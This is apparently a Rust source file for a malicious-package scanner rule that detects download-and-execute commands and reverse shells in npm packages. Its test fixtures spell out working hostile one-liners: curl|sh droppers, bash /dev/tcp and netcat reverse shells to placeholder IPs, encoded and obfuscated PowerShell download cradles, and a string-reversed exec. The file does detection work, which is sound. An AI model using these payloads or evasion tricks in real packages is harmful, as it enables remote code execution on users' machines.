//! Rule `shell-download-exec`.

use crate::decode;
use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files, find_text, is_doc_path};

crate::declare_rule! {
    /// Downloads code and runs it in one go: `curl … | sh`, `wget -O- … | bash`, PowerShell
    /// download cradles (`IEX (New-Object Net.WebClient).DownloadString`, `iwr … | iex`),
    /// `powershell -EncodedCommand` (decoded and checked), `certutil -urlcache` or `bitsadmin`
    /// downloads followed by execution, `regsvr32 /i:http`, reverse shells (bash `/dev/tcp`,
    /// `mkfifo` + netcat, a PowerShell `TCPClient` stream fed to `iex`), PowerShell cradles whose
    /// names are joined from pieces and whose download runs through an aliased or computed
    /// Invoke-Expression (critical when a lifecycle script starts it), a Python script that
    /// downloads a file and starts that file. Critical at install time, and when
    /// such a command is the argument of a real process start but appears nowhere in the source
    /// as written (decoded, reversed or assembled at run time) in code run on install or import
    /// or decoded from a payload.
    id: "shell-download-exec",
    category: Exec,
    severity: High,
    capability: Some(crate::model::Capability::ChildProcess),
    title: "downloads and runs remote code",
    incident: "curl|sh droppers in install scripts; DanaBot dropper in coa 2.0.3 (2021) via certutil and regsvr32",
    case_file: "package.json",
    flag: [r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl -s http://cdn.example.net/i.sh | sh"}}"#,
           r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA"}}"#,
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== index.js\nrequire('child_process').execSync('wget -qO- ' + u + ' | bash')",
           r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"bash -c 'bash -i >& /dev/tcp/203.0.113.5/4443 0>&1 &'"}}"#,
           r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.4 4444 > /tmp/f"}}"#,
           r#"{"name":"a","version":"1.0.0","scripts":{"install":"python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\""}}"#,
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}\n=== binding.gyp\n{\"targets\":[{\"target_name\":\"a\",\"variables\":{\"x\":\"<!(sh -c 'curl -fsSL http://198.51.100.23/k.sh | sh; echo 1')\"}}]}",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n=== index.js\nconst r = (s) => s.split('').reverse().join(''); const m = require(r('ssecorp_dlihc')); m[r('cexe')](r('hs | h/tset.x//:ptth Ls- lruc'), () => {})",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n=== index.js\nconst ps = [\"$c=New-Object System.Net.Sockets.TCPClient('h',443);$s=$c.GetStream();\", \"while(($i=$s.Read($b,0,$b.Length)) -ne 0){$o=(iex $d 2>&1|Out-String)}\"].join(''); require('child_process').spawn('powershell.exe', ['-enc', Buffer.from(ps, 'utf16le').toString('base64')])",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== .yarnrc.yml\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n=== .yarn/releases/yarn-4.1.0.cjs\nrequire('child_process').spawn('/bin/sh', ['-c', 'curl -fsSL https://x.example/r | sh'], { detached: true })"],
    pass: [r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#,
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nInstall with `curl -fsSL https://get.example.sh | sh`",
           r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"python3 -c \"import sys; print(sys.version)\" && nc -z localhost 8080 || true"}}"#,
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== lib/ping.js\nconst ps = \"$c=New-Object System.Net.Sockets.TCPClient($h,$p);$ok=$c.Connected;$c.Close();Write-Output $ok\"; require('child_process').execFileSync('powershell', ['-NoProfile', '-Command', ps])",
           r#"{"name":"a","version":"1.0.0","scripts":{"pretest":"timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo db is up"}}"#,
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}\n=== binding.gyp\n{\"targets\":[{\"target_name\":\"a\",\"include_dirs\":[\"<!(node -p \\\"require('node-addon-api').include_dir\\\")\"]}]}"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    let pipe = crate::regex!(
        r"(?i)\b(curl|wget)\b[^|;&\n]{0,200}\|\s*(sudo\s+)?(sh|bash|zsh|dash|node|python3?|perl)\b"
    );
    let cradle = crate::regex!(
        r"(?i)(iex|invoke-expression)\s*\(?\s*\(?\s*new-object\s+(system\.)?net\.webclient\)?\s*\.\s*download(string|file)|\b(iwr|irm|invoke-webrequest|invoke-restmethod)\b[^|\n]{0,200}\|\s*(iex|invoke-expression)\b|downloadstring\s*\([^)]*\)\s*\|\s*iex"
    );
    let enc = crate::regex!(
        r"(?i)\b(powershell|pwsh)(\.exe)?\b[^\n]{0,200}\s-(e|ec|enc|encodedcommand)\s+([A-Za-z0-9+/=]{16,})"
    );
    let lolbin = crate::regex!(
        r"(?i)certutil(\.exe)?\s+-urlcache\s+-split\s+-f\s+\S*https?:|bitsadmin\s+/transfer\b|regsvr32(\.exe)?\s+/s\s+/n?\s*/?u?\s*/i:https?:|mshta(\.exe)?\s+https?:"
    );
    let fetch_run = crate::regex!(
        r"(?i)\b(curl|wget)\b[^\n;|]{0,200}(-o|-O|--output)\s*\S+[^\n]{0,120}(chmod\s+\+x|&&\s*\./|;\s*\./|\bstart\b|\bnohup\b)"
    );
    // An interactive shell wired to a socket: bash's /dev/tcp, mkfifo + netcat, nc -e, or a
    // PowerShell TCP client whose stream is read and fed to `iex` (the Nishang one-liner).
    let revshell = crate::regex!(
        r"(?i)\b(ba|z|da)?sh\s+-i\b[^\n]{0,60}>&\s*/dev/(tcp|udp)/|/dev/(tcp|udp)/[\w.\-]+/\d+[^\n]{0,20}0>&1|\bmkfifo\b[^\n]{0,160}\b(nc|ncat|netcat)\b|\b(nc|ncat|netcat)(\.exe)?\b[^\n|;]{0,80}\s-(e|c)\s+\S*(sh|cmd(\.exe)?)\b|\bNet\.Sockets\.TCPClient\b[\s\S]{0,300}\.GetStream\(\)[\s\S]{0,400}\b(iex|Invoke-Expression)\b"
    );
    // A Python one-liner that decodes or fetches a stage and exec()s it.
    let pyexec = crate::regex!(
        r"(?i)\bpython[23w]?(\.exe)?\s+-c\s+[^\n]{0,200}\bexec\s*\(\s*(base64\.b64decode|__import__\(\s*['\x22](base64|zlib|urllib)|zlib\.decompress|urllib\.request\.urlopen|requests\.get)"
    );
    for f in code_files(pkg).chain(
        pkg.files
            .iter()
            .filter(|f| f.kind == crate::package::FileKind::Text && f.path.ends_with(".bat")),
    ) {
        if is_doc_path(&f.path) {
            continue;
        }
        if !crate::mentions!(
            crate::rules::all_text(f),
            [
                "curl",
                "wget",
                "| iex",
                "|iex",
                "new-object",
                "invoke-",
                "downloadstring",
                "downloadfile",
                "certutil",
                "bitsadmin",
                "regsvr32",
                "mshta",
                "powershell",
                "pwsh",
                "iwr ",
                "irm ",
                // reverse shells and Python one-liner stages (the `revshell` and `pyexec` regexes)
                "/dev/tcp/",
                "/dev/udp/",
                "mkfifo",
                "tcpclient",
                "ncat",
                "netcat",
                " -e",
                "\t-e",
                " -c",
                "\t-c",
                "python",
                "urlopen",
                "urlretrieve",
                "requests.get"
            ]
        ) {
            continue;
        }
        let sev = if pkg.is_install_file(f) {
            Severity::Critical
        } else {
            Severity::High
        };
        if let Some((off, m)) = find_text(f, revshell).into_iter().next() {
            out.hit_ev(
                sev,
                pkg,
                f,
                off,
                "opens a reverse shell (a shell wired to a network socket)",
                m,
            );
            continue;
        }
        let mut found = None;
        for re in [pipe, cradle, lolbin, fetch_run, pyexec] {
            if let Some(m) = find_text(f, re).into_iter().next() {
                found = Some(m);
                break;
            }
        }
        if found.is_none() && f.kind == crate::package::FileKind::Shell && f.script.is_none() {
            // A script that downloads a file and then makes it executable or runs it.
            let dl = crate::regex!(
                r"(?i)\b(curl|wget|certutil(\.exe)?\s+-urlcache|bitsadmin|invoke-webrequest|iwr)\b[^\n]*(-o|-O|--output|-outfile|\s)\s*\S+"
            );
            let run = crate::regex!(
                r"(?im)chmod\s+\+?[0-7]*x|^\s*\./\S+|\bstart\s+(/b\s+)?\S+\.exe|regsvr32|rundll32|\bnohup\b"
            );
            if let (Some(d), Some(_)) = (dl.find(&f.text), run.find(&f.text)) {
                found = Some((d.start() as u32, d.as_str().to_string()));
            }
        }
        if found.is_none()
            && let Some((off, m, hidden)) = ps_hidden_cradle(f)
        {
            // Assembled from pieces and run through a computed or aliased Invoke-Expression by a
            // lifecycle script (`prepare` hooks included): hidden like a decoded command.
            let base = f.path.rsplit('/').next().unwrap_or(&f.path);
            let hooked = pkg
                .files
                .iter()
                .any(|s| s.script.is_some() && s.text.contains(base));
            if hidden && hooked {
                out.hit_ev(
                    Severity::Critical,
                    pkg,
                    f,
                    off,
                    "a lifecycle script runs a PowerShell download cradle whose names are assembled at run time",
                    m,
                );
                continue;
            }
            found = Some((off, m));
        }
        if found.is_none() {
            found = py_fetch_run(f);
        }
        if found.is_none() {
            for (off, m) in find_text(f, enc) {
                let b64 = m.rsplit(char::is_whitespace).next().unwrap_or("");
                let decoded = decode::base64_bytes(b64)
                    .and_then(|b| decode::printable(&b))
                    .unwrap_or_default();
                let low = decoded.to_ascii_lowercase();
                if low.contains("download")
                    || low.contains("iex")
                    || low.contains("invoke-expression")
                    || low.contains("http")
                    || decoded.is_empty()
                {
                    found = Some((off, format!("{m} → {}", crate::package::one_line(&decoded))));
                    break;
                }
            }
        }
        // The command is the argument of a real process start but is nowhere in the source as
        // written: decoded, reversed or assembled at run time. Hiding a download-and-run from
        // readers is no installer's habit.
        let hidden = f.js.as_ref().and_then(|js| {
            js.calls
                .iter()
                .filter(|c| super::is_spawn(&c.path))
                .flat_map(|c| c.args.iter().take(2).map(move |a| (c.off, a)))
                .filter_map(|(off, a)| Some((off, a.lit.as_deref()?)))
                .find_map(|(off, cmd)| {
                    let m = pipe.find(cmd).or_else(|| cradle.find(cmd))?;
                    (!f.text.contains(m.as_str()) && f.script.is_none())
                        .then(|| (off, m.as_str().to_string()))
                })
        });
        if let Some((off, m)) = hidden
            && (pkg.is_install_file(f)
                || pkg.is_entry_file(f)
                || f.js.as_ref().is_some_and(|j| !j.decoded_code.is_empty()))
        {
            out.hit_ev(
                Severity::Critical,
                pkg,
                f,
                off,
                "runs a download-and-run command it hides from the source (decoded or assembled at run time)",
                m,
            );
            continue;
        }
        if let Some((off, m)) = found {
            out.hit_ev(sev, pkg, f, off, "downloads code and runs it", m);
        }
    }
}

/// A PowerShell download cradle written to beat keyword matching (the Invoke-Obfuscation
/// family): type and method names assembled from pieces (`New-Object ('Net.' + 'WebClient')`,
/// `$c.('Download' + 'String')($u)`), and what was downloaded run through `Invoke-Expression`
/// under an alias (`iex`, `sal x iex`, `icm`), `[scriptblock]::Create`, or the call operator
/// applied to a command name computed at run time (`& ((Get-Variable '*mdr*').Name[3,11,2] -join
/// '')`, `.($env:ComSpec[4,15,25] -join '')`). Only in PowerShell scripts and commands.
/// With where it is, what matched, and whether it is hidden: a name assembled from pieces, or
/// the run spelled other than a plain `iex`/`Invoke-Expression`.
fn ps_hidden_cradle(f: &crate::package::FileCtx) -> Option<(u32, String, bool)> {
    let p = f.path.to_ascii_lowercase();
    let ps_file = p.ends_with(".ps1") || p.ends_with(".psm1");
    let ps_cmd = f.script.is_some() && {
        let t = f.text.to_ascii_lowercase();
        t.contains("powershell") || t.contains("pwsh")
    };
    if !(ps_file || ps_cmd) || f.text.len() > 256 * 1024 {
        return None;
    }
    // Undo string concatenation: `'Down' + 'load'` -> `Download`.
    let joined = crate::regex!(r#"['"]\s*\+\s*['"]"#).replace_all(&f.text, "");
    let low = joined.to_ascii_lowercase();
    let download = crate::regex!(
        r"(?i)net\.webclient|net\.http\.httpclient|\.download(string|data)\b|\b(iwr|irm|invoke-webrequest|invoke-restmethod|start-bitstransfer)\b|\bwget\s+\S+|\bcurl(\.exe)?\s+\S+"
    );
    let d = download.find(&low)?;
    let run = crate::regex!(
        r"(?i)\b(iex|invoke-expression)\b|\b(sal|set-alias|new-alias)\s+\S+\s+['\x22]?(iex|invoke-expression)\b|\b(icm|invoke-command)\b[^\n]{0,80}-scriptblock|\[scriptblock\]::create|(?:^|[\s;|{(=])[&.]\s*\(\s*[($]"
    );
    let r = run.find(&low)?;
    // Offsets in the joined text: report the start of the same line in the file.
    let at = d.start().min(r.start());
    let line = low.get(..at).map_or(0, |s| s.matches('\n').count());
    let off = f
        .text
        .split_inclusive('\n')
        .take(line)
        .map(str::len)
        .sum::<usize>()
        .min(f.text.len()) as u32;
    let plain_download = download.is_match(&f.text.to_ascii_lowercase());
    let plain_run = matches!(r.as_str().trim(), "iex" | "invoke-expression");
    Some((
        off,
        format!(
            "{} … {}",
            crate::package::one_line(d.as_str()),
            crate::package::one_line(r.as_str().trim())
        ),
        !plain_download || !plain_run,
    ))
}

/// A Python script (a build helper, a gyp action) that downloads a file and starts that same
/// file: `urlopen(u)` written with `open(dst, "wb")` (or `urlretrieve(u, dst)`), then
/// `subprocess.Popen([dst])`, `os.system(dst)`, `os.startfile(dst)`. Downloading a source archive
/// and running `tar` or `make` on it is not this.
fn py_fetch_run(f: &crate::package::FileCtx) -> Option<(u32, String)> {
    if f.script.is_some() || f.text.len() > 256 * 1024 {
        return None;
    }
    let python = f.path.ends_with(".py")
        || f.text.starts_with("#!") && f.text.lines().next().is_some_and(|l| l.contains("python"));
    if !python {
        return None;
    }
    let dl = crate::regex!(
        r"\b(urllib\.request\.urlopen|urlopen|urlretrieve|requests\.get|urllib2\.urlopen|HTTPS?Connection)\s*\("
    )
    .find(&f.text)?;
    let dest = crate::regex!(
        r#"\bopen\(\s*([A-Za-z_]\w*)\s*,\s*['"]wb['"]|urlretrieve\([^,\n]+,\s*([A-Za-z_]\w*)"#
    );
    for c in dest.captures_iter(&f.text) {
        let Some(var) = c.get(1).or_else(|| c.get(2)) else {
            continue;
        };
        let start = regex::Regex::new(&format!(
            r"\b(subprocess\.(Popen|run|call|check_call|check_output)|os\.(system|startfile|exec\w*|spawn\w*|popen))\(\s*\[?\s*{}\b",
            regex::escape(var.as_str())
        ))
        .ok()?;
        if let Some(m) = start.find(&f.text) {
            return Some((
                dl.start() as u32,
                format!(
                    "{} … {}",
                    crate::package::one_line(dl.as_str()),
                    crate::package::one_line(m.as_str())
                ),
            ));
        }
    }
    None
}

#[cfg(test)]
mod ps_tests {
    use crate::rules::testing::run;

    const PS: &str = "$u = -join ([char[]](104,116,116,112))\n$c = New-Object ('Net.' + 'Web' + 'Client')\n$d = $c.('Download' + 'String')($u)\n& ((Get-Variable '*mdr*').Name[3,11,2] -join '') $d\n";

    fn pkg(ps: &str) -> String {
        format!(
            "=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{{\"preinstall\":\"powershell -NoProfile -File tools/p.ps1\"}}}}\n=== tools/p.ps1\n{ps}"
        )
    }

    #[test]
    fn concatenated_webclient_run_through_a_computed_iex_is_a_cradle() {
        let hits = run(&super::RULE, "package.json", &pkg(PS));
        assert!(hits.iter().any(|h| h.file == "tools/p.ps1"), "{hits:?}");
    }

    #[test]
    fn the_hidden_cradle_run_by_a_prepare_hook_is_critical() {
        let case = format!(
            "=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{{\"preprepare\":\"powershell -NoProfile -File tools/p.ps1\"}}}}\n=== tools/p.ps1\n{PS}"
        );
        let hits = run(&super::RULE, "package.json", &case);
        assert!(
            hits.iter()
                .any(|h| h.severity == crate::model::Severity::Critical),
            "{hits:?}"
        );
    }

    #[test]
    fn an_aliased_invoke_expression_of_a_download_is_a_cradle() {
        let ps = "Set-Alias run Invoke-Expression\n$s = (New-Object Net.WebClient).DownloadString($env:U)\nrun $s\n";
        let hits = run(&super::RULE, "package.json", &pkg(ps));
        assert!(!hits.is_empty());
    }

    #[test]
    fn a_download_saved_and_a_local_script_run_is_not_a_cradle() {
        let ps = "$c = New-Object Net.WebClient\n$c.DownloadFile($url, $zip)\nExpand-Archive $zip -DestinationPath $dir\n& (Join-Path $dir 'setup.ps1')\n";
        let hits = run(&super::RULE, "package.json", &pkg(ps));
        assert!(hits.is_empty(), "{hits:?}");
    }
}

#[cfg(test)]
mod py_tests {
    use crate::rules::testing::run;

    fn pkg(py: &str) -> String {
        format!(
            "=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}}\n=== binding.gyp\n{{\"targets\":[{{\"target_name\":\"a\",\"actions\":[{{\"action_name\":\"g\",\"inputs\":[],\"outputs\":[\"c.h\"],\"action\":[\"python3\",\"tools/gen.py\",\"<@(_outputs)\"]}}]}}]}}\n=== tools/gen.py\n{py}"
        )
    }

    #[test]
    fn a_gyp_action_that_downloads_a_program_and_starts_it_is_critical() {
        let py = "#!/usr/bin/env python3\nimport urllib.request, subprocess, os\ndst = os.path.join('/tmp', '.p')\nwith urllib.request.urlopen(BASE + tag) as r, open(dst, 'wb') as f:\n    f.write(r.read())\nos.chmod(dst, 0o755)\nsubprocess.Popen([dst], start_new_session=True)\n";
        let hits = run(&super::RULE, "package.json", &pkg(py));
        assert!(
            hits.iter().any(|h| h.file == "tools/gen.py" && h.severity == crate::model::Severity::Critical),
            "{hits:?}"
        );
    }

    #[test]
    fn a_gyp_action_that_downloads_sources_and_unpacks_them_is_not() {
        let py = "#!/usr/bin/env python3\nimport urllib.request, subprocess\nurllib.request.urlretrieve(URL, tarball)\nsubprocess.check_call(['tar', 'xzf', tarball, '-C', out])\n";
        assert!(run(&super::RULE, "package.json", &pkg(py)).is_empty());
    }
}
